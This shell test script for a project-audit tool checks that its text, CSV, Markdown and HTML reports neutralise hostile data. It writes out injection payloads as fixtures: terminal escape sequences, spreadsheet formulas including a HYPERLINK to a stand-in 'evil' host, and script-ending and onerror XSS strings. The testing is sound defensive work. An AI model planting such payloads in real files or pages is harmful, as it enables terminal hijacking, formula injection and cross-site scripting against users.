#!/bin/sh
# Data cannot take over the auditor's terminal, spreadsheet or merge-request
# comment (docs/security.md): control characters in the text report are
# shown as visible escapes, report.csv neutralises cells a spreadsheet would
# run as formulas (OWASP), the Markdown report shows markup from the data
# as text, and the HTML report's data can neither end its <script> elements
# nor run (tests/e2e/html_test.sh loads such a page in a browser).
. "$(dirname "$0")/lib.sh"

data d
printf '%s\n' 'project_id,name,status,phase,sponsor,manager,start_date,planned_finish,charter_approved,business_case' >"$D/projects.csv"
printf 'X\033]0;pwned\007\033[2J,Title,active,execution,Ann,Bo,2026-01-05,2026-12-18,yes,BC-1\n' >>"$D/projects.csv"
printf '"Y\302\233c\rZ",Name,active,execution,Ann,Bo,2026-01-05,2026-12-18,yes,BC-2\n' >>"$D/projects.csv"
printf '%s\n' '@SUM(1+1),"=HYPERLINK(""http://evil/""&A1;""x"")",active,execution,Ann,Bo,2026-01-05,2026-12-18,yes,BC-3' >>"$D/projects.csv"
printf '%s\n' '-2+3,**bold** ![img](http://x/y.png) @alice,active,execution,Ann,Bo,2026-01-05,2026-12-18,yes,BC-4' >>"$D/projects.csv"
printf '%s\n' '-5,Plain,active,execution,Ann,Bo,2026-01-05,2026-12-18,yes,BC-5' >>"$D/projects.csv"

it "the text report shows ESC, CR and C1 controls from the data as visible escapes"
pa run "$D" --as-of $ASOF --only STD-001 -v
exit_is 1
out_has 'X\x1b]0;pwned\x07\x1b[2J'
out_has 'Y\u009bc\rZ'
true_that "! grep -q \"\$(printf '\\033')\" $OUT"
true_that "! grep -q \"\$(printf '\\r')\" $OUT"
true_that "! grep -q \"\$(printf '\\302\\233')\" $OUT"

it "report.csv prefixes an apostrophe to cells a spreadsheet would run as formulas, not to numbers"
pa run "$D" --as-of $ASOF --only STD-001 -f csv,json -o "$TMP/r" -q
exit_is 1
file_has "$TMP/r/report.csv" ",'@SUM(1+1),"
file_has "$TMP/r/report.csv" ",'-2+3,"
file_has "$TMP/r/report.csv" ",-5,"
true_that "! grep -q ',@SUM' $TMP/r/report.csv"
true_that "! grep -q ',-2+3' $TMP/r/report.csv"
true_that "python3 $ROOT/tests/tools/report_check.py csv_equals_json $TMP/r/report.csv $TMP/r/report.json"

it "report.csv neutralises a formula in a free-text message too"
mkdir -p "$TMP/rules"
cat >"$TMP/rules/NAME-1.lua" <<'LUA'
rule { id = "NAME-1", title = "names", severity = "error", domain = "STD", tables = {"projects"},
       each = "projects", doc = "echo the name",
       check = function(p, ctx) ctx.report(p, "name", p.project_id == "-5" and "\tinjected" or p.name) end }
LUA
pa run "$D" --as-of $ASOF --no-builtin -r "$TMP/rules" -f csv,json,md -o "$TMP/m" -q
exit_is 1
file_has "$TMP/m/report.csv" "\"'=HYPERLINK("
file_has "$TMP/m/report.csv" "'	injected"
true_that "python3 $ROOT/tests/tools/report_check.py csv_equals_json $TMP/m/report.csv $TMP/m/report.json"

it "the Markdown report shows emphasis, images and @mentions from the data as text"
file_has "$TMP/m/report.md" '\*\*bold\*\* \!\[img\](http://x/y.png) @​alice'
true_that "! grep -q '@alice' $TMP/m/report.md"
true_that "! grep -q '\*\*bold\*\*' $TMP/m/report.md"


it "report.html: no data can end the data block's <script>, start markup, or run: the CSP allows the page's own script only"
cat >"$TMP/rules/HTML-1.lua" <<'LUA'
rule { id = "HTML-1", title = "markup in every field", severity = "error", domain = "STD", tables = {"projects"},
       each = "projects", doc = "echo markup",
       check = function(p, ctx)
         ctx.report{row = p, key = "</script><script>alert(1)</script>", value = "<!--<script>x</script>",
                    message = "A & B </SCRIPT> <img src=x onerror=alert(2)> \u{2028}line\u{2029}para \\u003c"}
       end }
LUA
pa run "$D" --as-of $ASOF --no-builtin -r "$TMP/rules/HTML-1.lua" -f html,json -o "$TMP/h" -q
exit_is 1
true_that "python3 $ROOT/tests/tools/html_check.py page $TMP/h/report.html"
true_that "python3 $ROOT/tests/tools/html_check.py data $TMP/h/report.html $TMP/h/report.json"
file_has "$TMP/h/report.html" '"\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e"'
file_has "$TMP/h/report.html" '"A \u0026 B \u003c/SCRIPT\u003e \u003cimg src=x onerror=alert(2)\u003e \u2028line\u2029para \\u003c"'
file_has "$TMP/h/report.html" '<td class="mono key">&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</td>'
true_that "! grep -qi '<script>alert\|<img\|<!--' $TMP/h/report.html"
true_that "[ \"\$(grep -ci '</script>' $TMP/h/report.html)\" = 2 ]"

it "the gate verdict in Markdown shows an @mention and markup from the data as text"
pa gate '@SUM(1+1)' G1 "$D" --as-of $ASOF -f md -o "$TMP/gate.md" -q
exit_is 1
file_has "$TMP/gate.md" 'Gate G1 for @​SUM(1+1): BLOCKED'
file_has "$TMP/gate.md" 'project id "@​SUM(1+1)" does not match ^PRJ-\[0-9\]{4,6}$'
true_that "! grep -q '@SUM' $TMP/gate.md"

finish
